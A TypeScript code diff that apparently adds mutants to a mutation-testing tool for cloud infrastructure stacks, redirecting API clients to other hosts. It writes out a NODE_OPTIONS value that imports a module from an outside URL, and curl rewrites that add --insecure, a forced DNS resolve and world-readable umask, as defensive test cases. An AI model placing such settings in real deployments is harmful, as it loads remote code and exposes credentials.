@@ -52,11 +52,24 @@ const API = "a1b2c3d4e5.execute-api.eu-west-1.amazonaws.com";
 function addressed(stacks: Stacks, place: Place): readonly Mutant[] {
   const at = [...place.path, "environment", "variables"];
   const variables = objectOf(objectOf(place.attributes.environment).variables);
-  if (variables.API_URL === undefined) return [];
   const of = (name: string, ...values: readonly (string | undefined)[]) =>
     values
       .filter((to) => to !== variables[name])
       .map((to) => mutant(stacks, "client sent elsewhere", [...at, name], to));
+  if (variables.API_DOMAIN !== undefined)
+    return [
+      ...of("API_DOMAIN", undefined, "theirs.example.com"),
+      ...of("API_REGION", undefined, "us-west-2"),
+      ...of("API_URL", "https://theirs.example.com/prod"),
+      ...of("SERVER_CA", "theirs"),
+      ...of(
+        "CERTIFICATE_SECRET_ARN",
+        undefined,
+        ...others(stacks, place, "aws_secretsmanager_secret", "arn"),
+      ),
+      ...of("NODE_OPTIONS", "--import=https://example.com/a.mjs"),
+    ];
+  if (variables.API_URL === undefined) return [];
   const [, host = "", stage = ""] = /^https:\/\/(.+)\/([\w-]+)$/.exec(String(variables.API_URL)) ?? [];
   const names = others(stacks, place, "aws_vpc_endpoint", "dns_entry[0].dns_name");
   const hosts = [API, "api.example.com", "${aws_vpc_endpoint.gone.dns_entry[0].dns_name}", ...names];
@@ -97,6 +110,14 @@ function commands(stacks: Stacks, stackId: string): readonly Mutant[] {
       undefined,
       curl.replace(/https:\/\/[^/]+/, "https://api.example.com"),
       curl.replace("https", "http"),
+      ...(curl.includes("--cert ")
+        ? [
+            curl.replace("--tlsv1.2", "--tlsv1.2 --insecure"),
+            curl.replace("curl", "curl --resolve theirs:443:10.4.2.99"),
+            curl.replace(/--secret-id '[^']+'/, "--secret-id theirs"),
+            curl.replace("umask 077", "umask 000"),
+          ]
+        : []),
     ].map((to) => mutant(stacks, "client sent elsewhere", [...at, name, "curl"], to));
   });
 }
